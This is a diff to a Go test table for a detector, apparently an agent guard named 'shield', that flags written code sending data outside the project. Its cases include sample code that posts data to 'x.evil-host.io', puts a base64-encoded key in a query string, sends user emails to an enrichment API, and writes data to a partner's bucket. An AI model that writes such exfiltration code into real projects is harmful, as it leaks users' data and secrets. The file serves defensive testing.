@@ -63,6 +63,10 @@ func TestWrittenSink_Languages(t *testing.T) {
 		{"transfer operator exports a table to an outside bucket", editCode(s, "orchestration/dags/marketing.py",
 			"    build >> test\n",
 			"    export = PostgresToGCSOperator(\n        task_id=\"export_users\",\n        postgres_conn_id=\"app_db\",\n        sql=\"select id, email from users\",\n        bucket=\"ext-marketing-drop\",\n        filename=\"users.json\",\n    )\n    build >> test >> export\n"), asked},
+		{"new spark job writes to the same owner's lake", writeCode(s, "jobs/curate.py",
+			"df = spark.read.parquet(\"s3a://acme-raw/in/\")\ndf.write.mode(\"overwrite\").parquet(\"s3a://acme-curated/out/\")\n"), none},
+		{"new spark job writes to someone else's bucket", writeCode(s, "jobs/curate.py",
+			"df = spark.read.parquet(\"s3a://acme-raw/in/\")\ndf.write.mode(\"overwrite\").parquet(\"s3a://xfer-partner-91/out/\")\n"), asked},
 		{"terraform bucket beside a secret", editCode(s, "infra/storage.tf",
 			"# storage\n",
 			"# storage\nresource \"aws_s3_bucket\" \"exports\" {\n  bucket = \"acme-exports-eu\"\n}\nresource \"aws_secretsmanager_secret\" \"export_token\" {\n  name = \"export-token\"\n}\n"), none},
@@ -130,7 +134,15 @@ func TestWrittenSink_Languages(t *testing.T) {
 		{"url from the environment with a default", editCode(s, "app/settings.py",
 			"DEBUG = False\n",
 			"DEBUG = False\nSEARCH_URL = os.getenv(\"SEARCH_URL\", \"https://search.vendor-api.com\")\n"), none},
-		{"query params built from variables", editCode(s, "app/clients/lookup.py",
+		{"weather client with a city parameter", writeCode(s, "app/clients/weather.py",
+			"def forecast(city):\n    return requests.get(\"https://api.open-meteo.com/v1/forecast\", params={\"city\": city}).json()\n"), none},
+		{"query built from a variable", editCode(s, "app/clients/rates.py",
+			"    return None\n",
+			"    return requests.get(f\"https://api.fx-rates.dev/latest?base={currency}\").json()\n"), none},
+		{"query carries an encoded token", editCode(s, "app/clients/rates.py",
+			"    return None\n",
+			"    return requests.get(f\"https://api.fx-rates.dev/latest?k={base64.b64encode(key)}\").json()\n"), asked},
+		{"query params carry an email", editCode(s, "app/clients/lookup.py",
 			"    return None\n",
 			"    return requests.get(\"https://enrich.people-data.io/v1\", params={\"email\": user.email})\n"), asked},
 		{"notebook edited then executed", func() shield.Action {
@@ -179,7 +191,7 @@ func TestWrittenSink_Bounds(t *testing.T) {
 	}{
 		{"notebook over the cap", "nb/huge.ipynb", strings.Repeat("\"x = \\\"https://a.b\\\" + {{{{{\\n\",\n", 20000), "escalate input:too-large-to-judge"},
 		{"deep brackets then a post", "a.py", strings.Repeat("[", 200000) + "requests.post('https://x.evil-host.io', json=d)", "escalate exfiltration:written-code"},
-		{"many URLs on one line", "b.js", strings.Repeat("'https://h.io/?a=' + ", 12000), "escalate exfiltration:written-code"},
+		{"many URLs on one line", "b.js", strings.Repeat("'https://h.io/?a=' + ", 12000), none},
 		{"many lines of braces", "c.py", strings.Repeat("{{{{ gethostbyname %s.%s.%s \n", 8000), none},
 	}
 	for _, c := range cases {
